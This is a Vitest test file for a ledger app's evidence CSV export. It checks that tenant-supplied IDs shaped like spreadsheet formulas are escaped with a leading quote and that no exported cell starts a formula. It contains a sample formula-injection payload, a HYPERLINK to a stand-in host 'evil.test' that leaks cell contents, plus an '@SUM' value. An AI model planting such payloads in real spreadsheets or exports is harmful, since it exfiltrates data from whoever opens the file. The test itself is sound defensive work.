import { describe, expect, it } from 'vitest';
import { csvObjects } from '../../support/csv.js';
import { TEST_ADMIN_TOKEN } from '../../support/harness.js';
import { useLedgerApp } from '../../support/ledger-app.js';
import { invoiceReader } from '../../support/ledger-flow.js';
import { bodyFor, preparationFlow } from '../../support/preparation-flow.js';
import { gwcReport } from '../../support/reports.js';

const app = useLedgerApp({ sandbox: { invoices: 2, items: 2 } });
const { post, confirmMappings } = preparationFlow(app);

/** docs/evidence.md, "Procedures and download": a CSV opened in a spreadsheet runs no formula a tenant wrote. */
describe('evidence export safety', () => {
  it('when a tenant names its attempt and event like formulas, then the CSV cells carry a leading single quote, the list keeps the value as sent, and numbers stay numbers', async () => {
    const reader = await invoiceReader(app, 'gwc');
    const invoice = await confirmMappings(reader, '1001');
    const prepared = await post(reader.key, 'gwcPreparation', bodyFor(invoice));
    expect(prepared.status).toBe(200);
    const preparationId = prepared.body.preparation.id as string;
    const key = (await app.admin<{ key: string }>('apiKeys.issue', { integrationId: reader.integrationId, scopes: ['payments:write'] }))
      .body.key;
    const attemptId = '=HYPERLINK("http://evil.test/?leak="&A1,"open")';
    const eventId = '@SUM(1+1)';
    const report = gwcReport({
      attemptId,
      eventId,
      enrichmentRequestId: preparationId,
      amountMinor: invoice.totalAmountMinor,
      capturedAmountMinor: invoice.totalAmountMinor,
    });
    expect((await app.request('/api/v1/gwc/payment-reports', { method: 'POST', key, json: report })).status).toBe(200);

    const filters = { integrationId: reader.integrationId, from: '2026-01-01T00:00:00.000Z', to: '2100-01-01T00:00:00.000Z' };
    const list = await app.admin<any>('evidence.list', filters);
    const row = list.body.rows.find((r: any) => r.preparationId === preparationId);
    expect(row).toMatchObject({ payment: { attemptId }, evidence: { source: 'merchant_report', eventId } });

    const where = await app.admin<any>('evidence.export', filters);
    expect(where.status).toBe(200);
    const res = await fetch(`${app.url}${where.body.path}`, { headers: { authorization: `Bearer ${TEST_ADMIN_TOKEN}` } });
    expect(res.status).toBe(200);
    const text = await res.text();
    const { rows } = csvObjects(text);
    const cells = rows.find((r) => r.preparation_id === preparationId)!;
    expect(cells).toMatchObject({
      attempt_id: `'${attemptId}`,
      evidence_event_id: `'${eventId}`,
      amount_minor: String(invoice.totalAmountMinor),
      net_amount_minor: String(invoice.totalAmountMinor),
      state: 'reported_only',
    });
    // No cell of the file starts a formula.
    for (const r of rows) for (const value of Object.values(r)) expect(value).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });
});
